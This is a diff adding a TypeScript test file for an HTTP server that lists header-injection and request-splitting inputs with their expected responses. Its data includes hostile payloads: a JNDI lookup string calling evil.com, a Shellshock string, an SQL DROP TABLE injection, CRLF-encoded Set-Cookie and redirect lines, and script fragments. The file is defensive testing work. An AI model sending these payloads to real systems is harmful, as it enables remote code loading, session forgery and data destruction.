@@ -1,0 +1,115 @@
+import { asked, bare, get, head, host, type Kind, type Row, reader, short } from './row';
+
+/** A request with a header line of its own, however it is spelled. */
+const withLine = (line: string, answers: Row['answers'], more: Partial<Row> = {}): Row => ({
+  title: short(line),
+  bytes: get('/en', line),
+  answers,
+  lang: 'en',
+  ...more,
+});
+
+const refused = [bare(400)];
+const plain = { like: get('/en') };
+
+/** What no request target may have. */
+const breaks = ['\rSet-Cookie: x=1', '\r\r', '\0', '\x7f', '\t', '\x0b', ' Set-Cookie: x=1 '];
+
+/** What ends the request line: HTTP/0.9 had no version, and what follows is a header of the request. */
+const ends = ['\r\nSet-Cookie: x=1', '\nSet-Cookie: x=1'];
+
+const named = ['Accept-Language', 'X-Request-Id', 'traceparent', 'Cookie', 'User-Agent', 'X-Any'];
+
+/** Values by which a header of ours would be forged, had they a way into an answer or a line of the log. */
+const forged: [name: string, value: string][] = [
+  ...[
+    '<script>',
+    'a b',
+    '"}',
+    '%0d%0aSet-Cookie:%20x=1',
+    '\xe9',
+    `${'x'.repeat(65)}`,
+    '../x',
+    ';',
+  ].map((value): [string, string] => ['X-Request-Id', value]),
+  ...['00-x', `00-${'0'.repeat(32)}-${'0'.repeat(16)}-00"`, '\xff', `${'f'.repeat(4000)}`].map(
+    (value): [string, string] => ['traceparent', value],
+  ),
+  ...[
+    '%0d%0aSet-Cookie:%20x=1',
+    '"><script>',
+    '\xe9\xff',
+    ';q=',
+    'en;q=1e9',
+    '*;q=-1',
+    ',,,,;;;;',
+  ].map((value): [string, string] => ['Accept-Charset', value]),
+  ...[
+    '\xff\xfe',
+    '\x80',
+    '%00',
+    "'; DROP TABLE x; --",
+    '$' + '{jndi:ldap://evil.com}',
+    '() { :; };',
+  ].map((value): [string, string] => ['User-Agent', value]),
+];
+
+/** Headers and answers that a request tries to put into an answer, or into the head of the next request. */
+export const injection: Kind = {
+  name: 'header injection',
+  rows: [
+    ...breaks.flatMap((smuggled) => [
+      asked(`/en/products?q=${smuggled}`, bare(400)),
+      asked(`/en${smuggled}`, bare(400)),
+      asked(`/en/products${smuggled}/x`, bare(400)),
+    ]),
+    ...ends.flatMap((end) => [
+      asked(`/en/products?q=${end}`, 301, { like: get('/en/products?q=') }),
+      asked(`/en${end}`, 200, { ...plain, lang: 'en' }),
+      asked(`/en/products${end}/x`, 301, { like: get('/en/products') }),
+    ]),
+    ...['%0d%0a', '%0a', '%0d', '%0d%0a%20', '%e5%98%8a%e5%98%8d', '%c4%8a', '%u000a'].flatMap(
+      (end) => [
+        asked(`/en/products?q=${end}Set-Cookie:%20x=1`, 301),
+        asked(`/?${end}Location:%20//evil.com`, 302),
+        asked(`/en?${end}Set-Cookie:%20x=1`, 200, plain),
+      ],
+    ),
+    ...named.flatMap((name) => [
+      withLine(`${name}: a\0b`, refused),
+      withLine(`${name}: a\rSet-Cookie: x=1`, refused),
+      withLine(`${name}: a\nSet-Cookie: x=1`, refused),
+      withLine(`${name}: a\x01b`, refused),
+      withLine(`${name}: a\x7fb`, refused),
+      withLine(`${name} : a`, refused),
+      withLine(` ${name}: a`, refused),
+      withLine(`\t${name}: a`, refused),
+      withLine(`${name}\0: a`, refused),
+      withLine(`${name}\x0b: a`, refused),
+      withLine(`${name}`, refused),
+    ]),
+    // A line that begins with a space went on with the one before it (obs-fold), long ago.
+    withLine('X-Any: a\r\n b', refused),
+    withLine('X-Any: a\r\n\tSet-Cookie: x=1', refused),
+    ...[': a', '\r: a', '(x): a', '"x": a', 'x y: a', 'x@y: a', '[x]: a', '\xe9: a', '<x>: a'].map(
+      (line) => withLine(line, refused),
+    ),
+    withLine('X-Any: a\r\nSet-Cookie: x=1', [200], plain),
+    ...forged.map(([name, value]) => withLine(`${name}: ${value}`, [200], plain)),
+    {
+      title: 'lines that end without CR',
+      bytes: `GET /en HTTP/1.1\n${host}\nConnection: close\n\n`,
+      answers: refused,
+    },
+    {
+      title: 'lines that end without LF',
+      bytes: `GET /en HTTP/1.1\r${host}\rConnection: close\r\r`,
+      answers: refused,
+    },
+    {
+      title: 'a first header that begins with a space',
+      bytes: head('GET /en HTTP/1.1', ` ${host}`, reader, 'Connection: close'),
+      answers: refused,
+    },
+  ],
+};
